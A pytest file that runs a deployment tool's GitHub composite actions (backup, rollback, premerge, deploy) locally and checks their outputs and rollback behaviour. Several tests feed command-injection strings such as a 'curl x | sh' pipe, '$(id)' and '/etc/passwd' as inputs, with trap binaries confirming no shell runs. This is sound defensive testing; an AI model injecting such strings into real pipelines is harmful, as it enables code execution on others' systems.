"""Each composite action's steps, executed in order on this machine as the runner would."""

from __future__ import annotations

import hashlib
import os
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from dhash_composite_runner import ActionRun, run_composite

pytestmark = pytest.mark.skipif(
    os.name == "nt",
    reason="runs the steps through a POSIX bash with trap executables; on Windows the "
    "workflows run the real actions",
)

REPO = Path(__file__).resolve().parents[2]
VENV_BIN = Path(sys.executable).parent
HOSTILE = ['"; curl x | sh; "', "$(id)", "`id`", "config validate; id", "x' && id && echo '"]


@pytest.fixture
def trap_bin(tmp_path: Path) -> Path:
    """Fake `curl`, `id` and `sh -c` payload targets: each leaves a marker if anything runs it."""
    folder = tmp_path / "trap-bin"
    folder.mkdir()
    marker = tmp_path / "SHELL_REACHED"
    for name in ("curl", "id"):
        script = folder / name
        script.write_text(f"#!/bin/sh\necho {name} >> '{marker}'\n", encoding="utf-8")
        script.chmod(script.stat().st_mode | stat.S_IEXEC)
    return folder


@pytest.fixture
def base_env(clean_environ: dict[str, str], trap_bin: Path) -> dict[str, str]:
    env = dict(clean_environ)
    env["PATH"] = os.pathsep.join([str(trap_bin), str(VENV_BIN), env.get("PATH", "")])
    env.update(
        {
            "GITHUB_REPOSITORY": "acme/dhash",
            "GITHUB_SHA": "0" * 40,
            "GITHUB_SERVER_URL": "https://github.com",
            "GITHUB_RUN_ID": "42",
            "GITHUB_RUN_ATTEMPT": "1",
            "GITHUB_EVENT_NAME": "pull_request",
            "GITHUB_WORKFLOW_REF": "acme/dhash/.github/workflows/premerge.yml@refs/pull/7/merge",
            "RUNNER_OS": "Linux",
            "RUNNER_ARCH": "X64",
        }
    )
    return env


def _run(
    action: str, inputs: dict[str, str], workspace: Path, tmp_path: Path, env: dict[str, str]
) -> ActionRun:
    return run_composite(
        REPO / action,
        {"install": "false", "root": str(workspace), **inputs},
        workdir=workspace,
        runner_temp=tmp_path / "runner-temp",
        base_env=env,
        github={"server_url": "https://github.com", "repository": "acme/dhash", "run_id": "42"},
        fake_uses={"actions/setup-python": {"python-path": sys.executable}},
    )


@pytest.fixture
def stop_services(example_workspace: Path) -> Iterator[None]:
    yield
    for env in ("staging", "production"):
        subprocess.run(
            [
                str(VENV_BIN / "dhash-gha"),
                "--root",
                str(example_workspace),
                "service",
                "stop",
                "--env",
                env,
            ],
            capture_output=True,
            timeout=60,
            check=False,
        )


def test_root_action_runs_a_command_and_publishes_outputs(
    example_workspace: Path, tmp_path: Path, base_env: dict[str, str]
) -> None:
    run = _run(
        "action.yml",
        {"command": "backup create --env staging"},
        example_workspace,
        tmp_path,
        base_env,
    )
    assert run.status == "success", [(s.name, s.stdout, s.stderr) for s in run.steps]
    assert run.outputs["result"] == "success" and run.outputs["exit-code"] == "0"
    backup = example_workspace / run.outputs["backup-path"]
    assert backup.name.startswith("dhash_staging_") and backup.is_file()
    assert run.outputs["backup-sha256"] == hashlib.sha256(backup.read_bytes()).hexdigest()
    assert "### dhash-gha backup: success" in run.summary
    assert "| backup-sha256 |" in run.summary
    assert run.step("Set up Python").outcome == "success"  # faked: not run here


def test_root_action_reports_a_failing_command(
    example_workspace: Path, tmp_path: Path, base_env: dict[str, str]
) -> None:
    run = _run(
        "action.yml",
        {"command": "backup verify backups/nope.zip"},
        example_workspace,
        tmp_path,
        base_env,
    )
    assert run.status == "failure"
    assert run.outputs["result"] == "bad-input" and run.outputs["exit-code"] == "2"
    assert "::error" in run.step("run").stdout


@pytest.mark.parametrize("command", HOSTILE)
def test_root_action_hostile_command_reaches_no_shell(
    command: str, example_workspace: Path, tmp_path: Path, base_env: dict[str, str]
) -> None:
    run = _run("action.yml", {"command": command}, example_workspace, tmp_path, base_env)
    assert run.status == "failure"
    assert run.outputs["exit-code"] == "2"
    assert not (tmp_path / "SHELL_REACHED").exists()


@pytest.mark.parametrize(
    "backup",
    [
        "../x",
        "$(id)",
        "`id`",
        "/etc/passwd",
        "backups/dhash_staging_20260101_120000.zip",
        "dhash_production_20260101_120000.zip",
        '"; curl x | sh; "',
        "dhash_staging_x.zip",
    ],
)
def test_rollback_action_refuses_anything_but_a_backup_name(
    backup: str, example_workspace: Path, tmp_path: Path, base_env: dict[str, str]
) -> None:
    before = sorted(p.relative_to(example_workspace) for p in example_workspace.rglob("*"))
    run = _run(
        "actions/rollback/action.yml",
        {
            "environment": "staging",
            "backup": backup,
            "force": "true",
            "reason": '"; curl x | sh; "',
        },
        example_workspace,
        tmp_path,
        base_env,
    )
    check = run.step("backup")
    assert check.outcome == "failure" and check.returncode == 2, check.stdout + check.stderr
    assert "never" in check.stderr or "not a backup name" in check.stdout + check.stderr
    assert run.step("rollback").outcome == "skipped"
    assert not (tmp_path / "SHELL_REACHED").exists()
    after = sorted(
        p.relative_to(example_workspace)
        for p in example_workspace.rglob("*")
        if "logs" not in p.relative_to(example_workspace).parts
    )
    assert after == [p for p in before if "logs" not in p.parts]


def test_rollback_action_without_force_only_plans(
    example_workspace: Path, tmp_path: Path, base_env: dict[str, str]
) -> None:
    created = subprocess.run(
        [
            str(VENV_BIN / "dhash-gha"),
            "--root",
            str(example_workspace),
            "backup",
            "create",
            "--env",
            "staging",
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        env=base_env,
    )
    assert created.returncode == 0, created.stderr
    tree = {p: p.read_bytes() for p in (example_workspace / "src").rglob("*.py")}
    run = _run(
        "actions/rollback/action.yml",
        {"environment": "staging", "backup": "latest", "reason": "test"},
        example_workspace,
        tmp_path,
        base_env,
    )
    assert run.step("backup").outcome == "success"
    assert run.outputs["backup-path"].startswith("backups/dhash_staging_")
    assert len(run.outputs["backup-sha256"]) == 64
    plan = run.step("Plan the rollback")
    assert plan.outcome == "success", plan.stdout + plan.stderr
    assert run.step("rollback").outcome == "skipped"
    assert run.step("incident").outcome == "skipped"
    assert {p: p.read_bytes() for p in (example_workspace / "src").rglob("*.py")} == tree


@pytest.mark.slow
def test_premerge_action_writes_the_bundle(
    example_workspace: Path, tmp_path: Path, base_env: dict[str, str]
) -> None:
    run = _run(
        "actions/premerge/action.yml",
        {"environment": "staging"},
        example_workspace,
        tmp_path,
        base_env,
    )
    step = run.step("premerge")
    artifacts = Path(run.outputs["artifacts-dir"])
    assert (artifacts / "summary.md").is_file() and Path(run.outputs["provenance-path"]).is_file()
    assert Path(run.outputs["backup-path"]).is_file()
    assert "pre-merge validation" in run.summary and "| protection | ⏭️ skipped" in run.summary
    assert run.outputs["result"] == "success", step.stdout + step.stderr
    assert run.status == "success"


@pytest.mark.slow
def test_deploy_action_rolls_out_and_publishes_the_release(
    example_workspace: Path, tmp_path: Path, base_env: dict[str, str], stop_services: None
) -> None:
    run = _run(
        "actions/deploy/action.yml",
        {"environment": "staging", "monitor-minutes": "0.5", "time-scale": "30"},
        example_workspace,
        tmp_path,
        base_env,
    )
    rollout = run.step("rollout")
    assert run.step("deployment").outcome == "skipped"  # no token
    assert rollout.outcome == "success", rollout.stdout[-3000:] + rollout.stderr[-3000:]
    assert run.outputs["result"] == "success"
    assert run.outputs["release-id"]
    assert run.outputs["backup-path"].startswith("backups/dhash_staging_")
    assert "### dhash-gha rollout: success" in run.summary


@pytest.mark.slow
def test_install_step_builds_a_venv_under_runner_temp(
    tmp_path: Path, base_env: dict[str, str]
) -> None:
    import shutil

    if shutil.which("uv", path=base_env["PATH"]) is None:
        pytest.skip("uv is not installed here; the pip path is measured by benchmarks/install.py")
    workspace = tmp_path / "ws"
    workspace.mkdir()
    run = run_composite(
        REPO / "action.yml",
        {"command": "--version", "root": str(workspace), "installer": "uv"},
        workdir=workspace,
        runner_temp=tmp_path / "runner-temp",
        base_env=base_env,
        fake_uses={"actions/setup-python": {"python-path": sys.executable}},
    )
    install = run.step("install")
    assert install.outcome == "success", install.stdout + install.stderr
    assert install.outputs["installer"] == "uv"
    assert Path(install.outputs["bin-dir"]).is_relative_to(tmp_path / "runner-temp")


def _cli(workspace: Path, env: dict[str, str], *argv: str) -> None:
    done = subprocess.run(
        [str(VENV_BIN / "dhash-gha"), "--root", str(workspace), *argv],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
        env=env,
    )
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]


@pytest.mark.slow
def test_deploy_action_gate_failure_rolls_back_and_opens_the_incident(
    example_workspace: Path, tmp_path: Path, base_env: dict[str, str], stop_services: None
) -> None:
    import json

    _cli(example_workspace, base_env, "deploy", "--env", "production", "--no-monitor")
    config_file = example_workspace / "config" / "production" / "dhash.json"
    config = json.loads(config_file.read_text(encoding="utf-8"))
    config["component"]["faults"]["queue_flood"] = 1500  # the bad release floods the queue
    config_file.write_text(json.dumps(config, indent=2), encoding="utf-8")
    run = _run(
        "actions/deploy/action.yml",
        {"environment": "production", "monitor-minutes": "2", "time-scale": "60"},
        example_workspace,
        tmp_path,
        base_env,
    )
    rollout = run.step("rollout")
    assert run.outputs["result"] == "rolled-back", rollout.stdout[-3000:] + rollout.stderr[-3000:]
    assert run.outputs["exit-code"] == "3" and run.status == "failure"
    assert run.outputs["incident-id"].startswith("INC-")
    assert (example_workspace / "incidents" / run.outputs["incident-id"] / "report.md").is_file()
    assert "### dhash-gha rollout: rolled-back" in run.summary
    assert "low_confidence_queue" in run.summary
    assert "xychart" in run.summary  # the incident report's chart of the gate values
    assert run.summary.count("xychart") == 1  # the report is in the summary once
    restored = json.loads(config_file.read_text(encoding="utf-8"))
    assert restored["component"]["faults"]["queue_flood"] == 0


@pytest.mark.slow
def test_rollback_action_forced_restores_and_records_the_incident(
    example_workspace: Path, tmp_path: Path, base_env: dict[str, str], stop_services: None
) -> None:
    _cli(example_workspace, base_env, "deploy", "--env", "staging", "--no-monitor")
    marker = example_workspace / "src" / "added_after_backup.txt"
    marker.write_text("new release file", encoding="utf-8")
    run = _run(
        "actions/rollback/action.yml",
        {"environment": "staging", "backup": "latest", "force": "true", "reason": "drill: restore"},
        example_workspace,
        tmp_path,
        base_env,
    )
    failed = [
        (s.name, s.stdout[-1500:], s.stderr[-1500:]) for s in run.steps if s.outcome == "failure"
    ]
    assert run.status == "success", failed
    assert run.outputs["result"] == "success"
    assert run.step("Post-rollback smoke tests").outcome == "success"
    assert run.outputs["incident-id"].startswith("INC-")
    assert not marker.exists()
    assert "### dhash-gha rollback: success" in run.summary


def test_deploy_action_unknown_environment_changes_nothing(
    example_workspace: Path, tmp_path: Path, base_env: dict[str, str]
) -> None:
    before = sorted(p.relative_to(example_workspace) for p in example_workspace.rglob("*"))
    run = _run(
        "actions/deploy/action.yml", {"environment": "qa"}, example_workspace, tmp_path, base_env
    )
    assert run.step("Check the configuration").outcome == "failure"
    assert run.step("rollout").outcome == "skipped"
    after = sorted(
        p.relative_to(example_workspace)
        for p in example_workspace.rglob("*")
        if "logs" not in p.relative_to(example_workspace).parts
    )
    assert after == [p for p in before if "logs" not in p.parts]


@pytest.mark.slow
def test_premerge_action_hostile_branch_reaches_no_shell(
    example_workspace: Path, tmp_path: Path, base_env: dict[str, str]
) -> None:
    run = _run(
        "actions/premerge/action.yml",
        {"branch": '"; curl x | sh; "', "environment": "$(id)"},
        example_workspace,
        tmp_path,
        base_env,
    )
    assert run.outputs["result"] == "bad-input" and run.outputs["exit-code"] == "2"
    assert not (tmp_path / "SHELL_REACHED").exists()
